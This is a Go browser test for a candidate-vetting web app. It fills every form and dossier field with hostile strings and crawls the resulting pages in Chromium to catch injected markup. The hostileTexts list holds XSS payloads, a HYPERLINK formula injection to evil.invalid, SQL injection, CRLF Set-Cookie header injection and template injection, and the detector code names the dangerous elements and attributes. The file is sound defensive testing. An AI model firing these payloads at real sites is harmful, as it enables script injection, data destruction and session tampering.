package web_test

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"bonafide/internal/dossier"
	"bonafide/internal/vetting"
	"bonafide/web/webtest"

	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"
)

// hostileTexts are texts that a page must show and never be: an address, markup that ends whatever it stands in, code of templates, a
// formula, letters that turn the reading round, ends of lines, control characters, and a word that is wider than any page. Nothing of
// ours is called born or born-here.
var hostileTexts = []string{
	`javascript:alert(1)//--></title></style></textarea></select></script></template><svg/onload=alert(1)><script>alert(1)</script>` +
		`<img src=//evil.invalid/x onerror=alert(1)><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><base href=//evil.invalid>` +
		`<style>*{display:none}</style><born-here>" born=1 onfocus=alert(1) autofocus x="' born=1 x='{{7*7}}${7*7}<%= 7*7 %>@evil.invalid`,
	"=HYPERLINK(\"http://evil.invalid\"&A1)|cmd\u202etxt.exe\u2028\u2029\u0085\u0001\u001b[2J\u007f\ufeff'; DROP TABLE candidates; -- \\\" born=1 <born-here>@\r\nSet-Cookie: born=1\r\n" + strings.Repeat("W", 300),
}

// brokenText is what no program takes for a text: bytes that are no UTF-8, and a zero byte.
const brokenText = "\xff\xfe\xc0\xaf\x00\xed\xa0\x80<born-here>"

// TestHostileTextsInABrowser puts hostile texts into every member of dossiers and into every field of every form that a recruiter, a lead,
// an administrator, a candidate and a referee reach, and opens every page that they then reach in a browser. A new member or form is
// part of it by being there.
func TestHostileTextsInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: no browser")
	}
	site := webtest.New(t)
	var candidates []string
	for _, text := range hostileTexts {
		id, err := site.Vetting.Create(t.Context(), site.Actor(vetting.Recruiter), hostileDossier(t, text))
		if err != nil {
			t.Fatal(err)
		}
		candidates = append(candidates, "/candidates/"+id.String())
	}
	site.Settle()

	recruiter := site.As(vetting.Recruiter)
	f := &formFiller{t: t, done: map[string]bool{}}
	for _, link := range publicLinks(t, recruiter, candidates[0]) {
		f.fill(site.Anybody(), link)
	}
	administrator := invited(t, site, vetting.Administrator)
	lead := invited(t, site, vetting.Lead)
	f.fill(recruiter, "/candidates")
	f.fill(lead, "/candidates")
	f.fill(administrator, "/accounts")
	site.Settle()
	t.Logf("%d forms, %d of them taken; not these:\n%s", len(f.done), f.taken, strings.Join(f.refused, "\n"))
	if f.taken < 30 {
		t.Errorf("only %d forms took a hostile text", f.taken)
	}

	server := httptest.NewServer(site)
	defer server.Close()
	w := watch(t, server.URL)
	seen := map[string]bool{}
	for _, client := range []*webtest.Client{lead, administrator} {
		w.cookie("session", client.Cookie("session"))
		for _, p := range reach(t, client, client == lead, append(candidates, "/candidates", "/accounts")...) {
			if key := skeleton(p); p.HTML != nil && p.Status == 200 && !isFile(p) && !seen[key] {
				seen[key] = true
				w.visit(p.Path)
			}
		}
	}
	t.Logf("%d pages in the browser, %d of them showed a hostile text", w.visited, w.shown)
	if w.visited < 100 || w.shown < 60 {
		t.Errorf("%d pages were opened, and %d showed a hostile text: the crawl is broken", w.visited, w.shown)
	}
}

// hostileDossier returns a dossier that has the text wherever the format takes any.
func hostileDossier(t *testing.T, text string) *dossier.Dossier {
	t.Helper()
	data, err := os.ReadFile("../internal/dossier/schema.json")
	if err != nil {
		t.Fatal(err)
	}
	s := schema{text: text}
	if err := json.Unmarshal(data, &s.root); err != nil {
		t.Fatal(err)
	}
	whole := s.value("", s.root).(map[string]any)
	delete(whole, "outcome") // is decided, and not handed in
	whole["id"] = text[:128]
	data, err = json.Marshal(whole)
	if err != nil {
		t.Fatal(err)
	}
	d, err := dossier.Decode(data)
	if err != nil {
		t.Fatalf("a member of the format wants a sample in schema.value: %v", err)
	}
	if s.texts < 120 {
		t.Fatalf("%d texts in the dossier: the walk is broken", s.texts)
	}
	return d
}

// A schema makes values that fit it.
type schema struct {
	root  map[string]any
	text  string
	texts int // how many were placed
}

// samples are values of members that take some texts only, by what the schema calls them.
var samples = map[string]any{"timezone": "America/Chicago", "ip": "198.51.100.7", "latitude": 29.76, "longitude": -95.37, "share": 0.5, "utc_offset_minutes": -360}

// patterns are values that fit the schema's patterns.
var patterns = map[string]any{`^[A-Z]{2}$`: "US", `^\d{4}(-\d{2})?$`: "2020-01", `^(\d{4}(-\d{2})?|present)$`: "present"}

// value returns a value for the member; lists have one of each kind.
func (s *schema) value(name string, def map[string]any) any {
	if ref, ok := def["$ref"].(string); ok {
		def = s.root["$defs"].(map[string]any)[strings.TrimPrefix(ref, "#/$defs/")].(map[string]any)
	}
	if one, ok := def["const"]; ok {
		return one
	}
	if some, ok := def["enum"].([]any); ok {
		return some[0]
	}
	if sample, ok := samples[name]; ok {
		return sample
	}
	switch def["type"] {
	case "object":
		members := map[string]any{}
		for member, d := range def["properties"].(map[string]any) {
			members[member] = s.value(member, d.(map[string]any))
		}
		return members
	case "array":
		return s.list(name, def["items"].(map[string]any))
	case "boolean":
		return true
	case "integer", "number":
		return 1
	}
	return s.string(def)
}

func (s *schema) string(def map[string]any) any {
	if pattern, ok := def["pattern"].(string); ok {
		return patterns[pattern]
	}
	switch def["format"] {
	case "date-time":
		return "2026-10-07T09:00:00Z"
	case "date":
		return "2026-10-07"
	}
	s.texts++
	return s.text
}

func (s *schema) list(name string, items map[string]any) (all []any) {
	one := s.value(name, items)
	members, ok := one.(map[string]any)
	if !ok || members["kind"] == nil {
		return []any{one}
	}
	if ref, ok := items["$ref"].(string); ok {
		items = s.root["$defs"].(map[string]any)[strings.TrimPrefix(ref, "#/$defs/")].(map[string]any)
	}
	kinds, _ := items["properties"].(map[string]any)["kind"].(map[string]any)["enum"].([]any)
	for _, kind := range kinds {
		member := maps.Clone(members)
		member["kind"] = kind
		all = append(all, member)
	}
	return all
}

// invited returns the browser of somebody who was invited to the role and has a hostile name.
func invited(t *testing.T, site *webtest.Site, role vetting.Role) *webtest.Client {
	t.Helper()
	made := site.As(vetting.Administrator).Post("/accounts", url.Values{"email": {"hostile-" + string(role) + "@example.com"}, "role": {string(role)}})
	link, err := url.Parse(made.Value("link"))
	if err != nil || link.Path == "" {
		t.Fatalf("%s has no link: %v\n%s", made, err, made.Text())
	}
	client := site.Anybody()
	joined := client.Post(link.Path, url.Values{"name": {hostileTexts[0][:200]}, "password": {webtest.Password}})
	if joined.Status != 303 || client.Cookie("session") == "" {
		t.Fatalf("%s: %s", joined, joined.Text())
	}
	return client
}

// A formFiller sends every form that it finds.
type formFiller struct {
	t       *testing.T
	done    map[string]bool // by what form.key returns
	taken   int             // how many forms were taken with a hostile text
	refused []string        // the others
}

// destructive are the last words of the acts that would take away what is to be looked at, or the person's own sign-in.
var destructive = regexp.MustCompile(`/(sign-\w+|erase|drop|withdraw|end|end-others|revoke|disable|remove|cancel|undo|disown|change|release|lift|begin|set-up)$|^/account/(authenticator|recovery|passkeys)`)

// ofFact are the forms of facts, whose texts the dossiers bring: one answer to them is enough.
var ofFact = regexp.MustCompile(`/(evidence|facts)/`)

// fill sends the forms of every page that the browser reaches from the path.
func (f *formFiller) fill(client *webtest.Client, path string) {
	f.t.Helper()
	for _, p := range reach(f.t, client, false, path) {
		for _, n := range all(p, "form") {
			action, err := url.Parse(cmp.Or(attribute(n, "action"), p.Path))
			if err != nil {
				f.t.Errorf("%s: a form leads to %q", p, attribute(n, "action"))
				continue
			}
			key := newForm(n, "").key(action)
			if f.done[key] || destructive.MatchString(action.Path) {
				continue
			}
			f.done[key] = true
			look(f.t, newForm(n, brokenText).send(client, action.String()))
			f.send(client, action.String(), newForm(n, hostileTexts[0]))
		}
	}
}

// send sends a form until it is taken: what is refused is left empty, and then holds something plain.
func (f *formFiller) send(client *webtest.Client, action string, filled *form) {
	f.t.Helper()
	for _, instead := range []func(string) string{func(string) string { return "" }, plain, nil} {
		answer := filled.send(client, action)
		look(f.t, answer)
		if answer.Status < 400 {
			f.taken++
			return
		}
		if answer.Status != 422 || answer.HTML == nil || instead == nil || ofFact.MatchString(action) {
			f.refused = append(f.refused, fmt.Sprintf("%.120s %v", answer, slices.Sorted(maps.Keys(filled.refused))))
			return
		}
		filled.heed(answer)
		for name := range filled.refused {
			filled.values.Set(name, instead(name))
		}
	}
}

func plain(name string) string {
	switch {
	case strings.Contains(name, "mail"):
		return "jo@example.com"
	case name == "ip":
		return "198.51.100.7"
	case strings.Contains(name, "country"):
		return "US"
	case strings.Contains(name, "url"):
		return "https://example.com/" + url.PathEscape(hostileTexts[0])
	}
	return "1"
}

// A form is one of a page, filled.
type form struct {
	method  string
	values  url.Values
	files   []webtest.File
	typed   []string        // the fields that take text
	refused map[string]bool // of those
}

func newForm(n *html.Node, text string) *form {
	f := &form{method: strings.ToLower(attribute(n, "method")), values: url.Values{}, refused: map[string]bool{}}
	for field := range n.Descendants() {
		name := attribute(field, "name")
		if name == "" {
			continue
		}
		switch field.Data {
		case "input":
			f.input(field, name, text)
		case "textarea":
			f.values.Set(name, text)
			f.typed = append(f.typed, name)
		case "select":
			f.values.Set(name, choice(field))
		case "button":
			f.values.Set(name, attribute(field, "value"))
		}
	}
	return f
}

func (f *form) input(field *html.Node, name, text string) {
	switch attribute(field, "type") {
	case "hidden", "submit":
		f.values.Set(name, attribute(field, "value"))
	case "checkbox":
		f.values.Add(name, attribute(field, "value"))
	case "radio":
		if !f.values.Has(name) {
			f.values.Set(name, attribute(field, "value"))
		}
	case "date":
		f.values.Set(name, "2026-10-01")
	case "datetime-local":
		f.values.Set(name, "2026-10-01T10:00")
	case "number":
		f.values.Set(name, "3")
	case "file":
		file := webtest.File{Field: name, Name: text + ".csv", Data: []byte("name,email,first_seen\r\n\"" + strings.ReplaceAll(text, `"`, `""`) + "\",jo@example.com,2026-10-01\r\n")}
		if strings.Contains(attribute(field, "accept"), "image/") {
			file.Name, file.Data = text+".png", webtest.Picture("hostile")
		}
		f.files = append(f.files, file)
	default:
		f.values.Set(name, text)
		f.typed = append(f.typed, name)
	}
}

// choice returns the first option that chooses something.
func choice(n *html.Node) string {
	for o := range n.Descendants() {
		if value := attribute(o, "value"); o.Data == "option" && value != "" {
			return value
		}
	}
	return ""
}

// key tells forms apart: where they lead, whatever the ids, and what they ask.
func (f *form) key(action *url.URL) string {
	path := named.ReplaceAllString(ids.ReplaceAllString(action.EscapedPath(), "*"), "$1/*")
	return path + " " + strings.Join(slices.Sorted(maps.Keys(f.values)), " ")
}

func (f *form) send(client *webtest.Client, action string) *webtest.Page {
	switch {
	case len(f.files) > 0:
		return client.PostFile(action, f.values, f.files...)
	case f.method == "post":
		return client.Post(action, f.values)
	}
	path, _, _ := strings.Cut(action, "?")
	return client.Get(path + "?" + f.values.Encode())
}

// heed remembers which texts the answer refuses.
func (f *form) heed(answer *webtest.Page) {
	for n := range answer.HTML.Descendants() {
		if name := attribute(n, "name"); attribute(n, "aria-invalid") == "true" && slices.Contains(f.typed, name) {
			f.refused[name] = true
		}
	}
}

// reach returns a page or file of each kind that links lead to from the paths; of facts each, where facts is set. A link that changes the language
// changes it for the page that it leads to alone.
func reach(t *testing.T, client *webtest.Client, facts bool, from ...string) (pages []*webtest.Page) {
	t.Helper()
	seen, language := map[string]bool{}, client.Cookie("language")
	for waiting := from; len(waiting) > 0; {
		u, err := url.Parse(waiting[0])
		waiting = waiting[1:]
		if err != nil || u.Host != "" || u.Scheme != "" || strings.HasPrefix(u.Path, "/static/") || u.Query().Has("in") || seen[kind(u, facts)] { // in changes the language of what follows
			continue
		}
		seen[kind(u, facts)] = true
		u.Fragment = ""
		p := client.Get(u.String())
		client.SetCookie("language", language)
		look(t, p)
		pages = append(pages, p)
		if location := p.Header.Get("Location"); location != "" {
			waiting = append(waiting, location)
		}
		for _, n := range all(p, "a") {
			if to, err := u.Parse(attribute(n, "href")); err == nil {
				waiting = append(waiting, to.String())
			}
		}
	}
	return pages
}

// named is what a path has of ours, or of the candidate's, in the place of an id.
var named = regexp.MustCompile(`(/(?:indicators|findings|waiting-periods|links/[a-z_]+|requisitions|sanctions/\*))/[^/]+`)

// kind tells apart what paths lead to: without ids, but those of facts where facts is set, and with the names of what they ask.
func kind(u *url.URL, facts bool) string {
	path := u.EscapedPath()
	if !facts || !strings.Contains(path, "/facts/") {
		path = ids.ReplaceAllString(path, "*")
	}
	return named.ReplaceAllString(path, "$1/*") + " " + strings.Join(slices.Sorted(maps.Keys(u.Query())), " ")
}

// all returns the page's elements of the name.
func all(p *webtest.Page, name string) (found []*html.Node) {
	if p.HTML == nil {
		return nil
	}
	for n := range p.HTML.Descendants() {
		if n.Type == html.ElementNode && n.Data == name {
			found = append(found, n)
		}
	}
	return found
}

// skeleton tells pages of one kind apart from others: by their path without ids, and by what they ask.
func skeleton(p *webtest.Page) string {
	path, _, _ := strings.Cut(ids.ReplaceAllString(p.Path, "*"), "?")
	key := []string{path}
	for _, element := range []string{"input", "select", "textarea"} {
		for _, n := range all(p, element) {
			key = append(key, attribute(n, "name"))
		}
	}
	return strings.Join(key, " ")
}

// isFile reports whether a browser saves the page and does not show it.
func isFile(p *webtest.Page) bool {
	return strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment")
}

// look fails where an answer is a fault of ours, or its page has an element or an attribute that came of a hostile text.
func look(t *testing.T, p *webtest.Page) {
	t.Helper()
	if p.Status >= 500 {
		t.Errorf("%s", p)
	}
	if strings.Contains(strings.Join(p.Header.Values("Set-Cookie"), " "), "born") {
		t.Errorf("%s sets a cookie of the text's", p)
	}
	if p.HTML == nil {
		return
	}
	for n := range p.HTML.Descendants() {
		if problem := bornOf(n); problem != "" && !(isFile(p) && n.Data == "style") { // a report has its styles inside
			t.Errorf("%s: %s", p, problem)
		}
	}
}

func bornOf(n *html.Node) string {
	if n.Type != html.ElementNode {
		return ""
	}
	switch n.Data {
	case "born-here", "base", "iframe", "object", "embed", "style":
		return "has <" + n.Data + ">"
	case "script", "link":
		if src := attribute(n, "src") + attribute(n, "href"); !strings.HasPrefix(src, "/static/") {
			return fmt.Sprintf("<%s> of %q", n.Data, src)
		}
	}
	for _, a := range n.Attr {
		if strings.HasPrefix(a.Key, "on") || a.Key == "born" || a.Key == "srcdoc" || a.Key == "style" {
			return fmt.Sprintf("<%s> has %s=%q", n.Data, a.Key, a.Val)
		}
		u, err := url.Parse(a.Val)
		if slices.Contains([]string{"href", "src", "action", "formaction", "xlink:href"}, a.Key) && (err != nil || !slices.Contains([]string{"", "http", "https", "mailto", "tel"}, u.Scheme)) {
			return fmt.Sprintf("<%s> has %s=%.60q", n.Data, a.Key, a.Val)
		}
	}
	return ""
}

// A watcher is a browser that remembers what no page of ours may do.
type watcher struct {
	t    *testing.T
	ctx  context.Context
	site string

	visited, shown int

	mu   sync.Mutex
	seen []string
}

// watch starts a browser on the site.
func watch(t *testing.T, site string) *watcher {
	t.Helper()
	w := &watcher{t: t, ctx: webtest.Chromium(t), site: site}
	if err := chromedp.Listen(w.ctx, w.event); err != nil {
		t.Fatal(err)
	}
	const report = `document.addEventListener("securitypolicyviolation", e => console.error("policy: " + e.violatedDirective + " " + e.blockedURI))`
	w.do(func(ctx context.Context, _ *chromedp.Target) (chromedp.Void, error) {
		_, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: report})
		return chromedp.Void{}, err
	})
	return w
}

func (w *watcher) do(step chromedp.Action[chromedp.Void]) {
	w.t.Helper()
	if err := chromedp.Do(w.ctx, step); err != nil {
		w.t.Fatal(err)
	}
}

func (w *watcher) cookie(name, value string) {
	w.t.Helper()
	if err := webtest.SetCookie(w.ctx, w.site, name, value); err != nil {
		w.t.Fatal(err)
	}
}

// event notes dialogs, what the browser or a page complains of, and requests that leave the site.
func (w *watcher) event(event any) {
	switch e := event.(type) {
	case *page.EventJavascriptDialogOpening:
		w.note("a dialog: " + e.Message)
	case *log.EventEntryAdded:
		if e.Entry.Level == log.EntryLevelError {
			w.note(fmt.Sprintf("the browser says: %s (%s)", e.Entry.Text, e.Entry.URL))
		}
	case *runtime.EventConsoleAPICalled:
		if len(e.Args) > 0 {
			w.note(fmt.Sprintf("the console says: %s", e.Args[0].Value))
		}
	case *runtime.EventExceptionThrown:
		w.note("a script failed: " + e.ExceptionDetails.Text)
	case *network.EventRequestWillBeSent:
		if !strings.HasPrefix(e.Request.URL, w.site+"/") && !strings.HasPrefix(e.Request.URL, "data:") { // the browser's own icons
			w.note("asks for " + e.Request.URL)
		}
	case *network.EventResponseReceived:
		if e.Response.Status >= 500 {
			w.note(fmt.Sprintf("status %d of %s", e.Response.Status, e.Response.URL))
		}
	}
}

func (w *watcher) note(text string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seen = append(w.seen, text)
}

// bornScript returns what a page holds that came of a hostile text, and whether it shows one.
const bornScript = `(() => {
	const found = [];
	for (const e of document.querySelectorAll("*")) {
		const own = e.localName != "script" && e.localName != "link" || new URL(e.src || e.href).pathname.startsWith("/static/");
		if (!own || ["born-here", "base", "iframe", "object", "embed", "style"].includes(e.localName)) found.push(e.outerHTML.slice(0, 200));
		for (const a of e.attributes) {
			if (/^on|^born$|^srcdoc$|^style$/.test(a.name)) found.push(e.localName + " has " + a.name);
			if (/^(xlink:)?(href|src|action|formaction)$/.test(a.name) && !/^(https?|mailto|tel):$/.test(new URL(a.value, location).protocol)) found.push(e.localName + " has " + a.name + "=" + a.value.slice(0, 60));
		}
	}
	return {Found: found, Shows: document.body.textContent.includes("<born-here>") || [...document.querySelectorAll("input, textarea")].some(e => e.value.includes("<born-here>"))};
})()`

// visit opens the page and fails where the browser notes anything.
func (w *watcher) visit(path string) {
	w.t.Helper()
	w.do(chromedp.Navigate(w.site + path))
	answer, err := chromedp.Run(w.ctx, chromedp.Evaluate[struct {
		Found []string
		Shows bool
	}](bornScript))
	if err != nil {
		w.t.Fatalf("%s: %v", path, err)
	}
	w.visited++
	if answer.Shows {
		w.shown++
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, found := range append(w.seen, answer.Found...) {
		w.t.Errorf("%s: %s", path, found)
	}
	w.seen = nil
}
